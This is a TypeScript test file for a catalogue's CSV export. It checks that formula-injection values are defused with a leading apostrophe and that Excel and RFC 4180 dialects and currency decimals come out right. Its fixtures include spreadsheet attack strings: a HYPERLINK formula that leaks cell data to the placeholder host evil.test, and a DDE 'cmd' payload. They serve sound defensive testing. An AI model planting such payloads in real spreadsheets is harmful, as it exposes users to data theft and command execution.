import { type CsvDialect, csvHead, csvRows } from "../../src/platform/tables/table_answer.ts";
import { harmless, withoutApostrophe } from "../../src/base/text.ts";
import {
  DEFAULT_COLUMNS,
  productCells,
  type ProductRow,
} from "../../src/catalogue/lists/export_products.ts";
import { madeProduct } from "./made_product.ts";
import { deepStrictEqual as assertEquals, ok } from "node:assert/strict";

const headOf = (dialect: CsvDialect) => csvHead(DEFAULT_COLUMNS, dialect);
const rowsOf = (rows: readonly ProductRow[], dialect: CsvDialect) =>
  csvRows(rows.map((row) => productCells(row, DEFAULT_COLUMNS)), dialect);

const product = madeProduct({
  sku: "00123",
  title: 'Kühl; "Schrank"',
  ourPriceCents: 123_456,
  vatRatePct: 7.5,
  ean: "4006381333931",
});

Deno.test("harmless() puts an apostrophe before formulas, and only there", () => {
  const run = [
    '=HYPERLINK("http://evil.test/"&A1,"x")',
    "+49 30 123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\rx",
    "\nx",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠1",
    // A leading apostrophe is doubled, so that reading returns the same text.
    "'=1",
    "''=1",
  ];
  for (const text of run) {
    assertEquals(harmless(text), `'${text}`);
    assertEquals(withoutApostrophe(harmless(text)), text);
  }
  for (const text of ["", "a=1", "Gerät", "00123", "1-2", "'a", 'a","b\r\n=1']) {
    assertEquals(harmless(text), text);
    assertEquals(withoutApostrophe(text), text);
  }
});

Deno.test("csvRows() writes a German Excel file with decimal comma", () => {
  const head = headOf("excel");
  ok(head.startsWith('\uFEFF"id";"sku";"title"') && head.endsWith("\r\n"));
  const row = rowsOf([{ product, market: null }], "excel");
  ok(row.includes('"00123";"Kühl; ""Schrank""";'), row);
  ok(row.includes('"1234,56";') && row.includes('"7,5"') && row.includes('"4006381333931"'), row);
});

Deno.test("csvRows() writes RFC 4180 with dots and commas", () => {
  ok(headOf("rfc4180").startsWith('"id","sku"'));
  const row = rowsOf([{ product, market: null }], "rfc4180");
  ok(row.includes('"1234.56",') && row.includes('"7.5"') && row.endsWith("\r\n"), row);
});

Deno.test("csvRows() writes minor units by the currency", () => {
  const yen = { ...product, currency: "JPY", ourPriceCents: 500 };
  const dinar = { ...product, currency: "KWD", ourPriceCents: 1_234 };
  ok(rowsOf([{ product: yen, market: null }], "excel").includes('"500"'));
  ok(rowsOf([{ product: dinar, market: null }], "excel").includes('"1,2340"'));
});

Deno.test("csvRows() makes every text column harmless, and no number", () => {
  const formulas = { ...product, sku: "=1+1", brand: "@x", ourPriceCents: 5 };
  const row = rowsOf([{ product: formulas, market: null }], "rfc4180");
  ok(row.includes(`"'=1+1"`) && row.includes(`"'@x"`) && row.includes('"0.05"'), row);
});
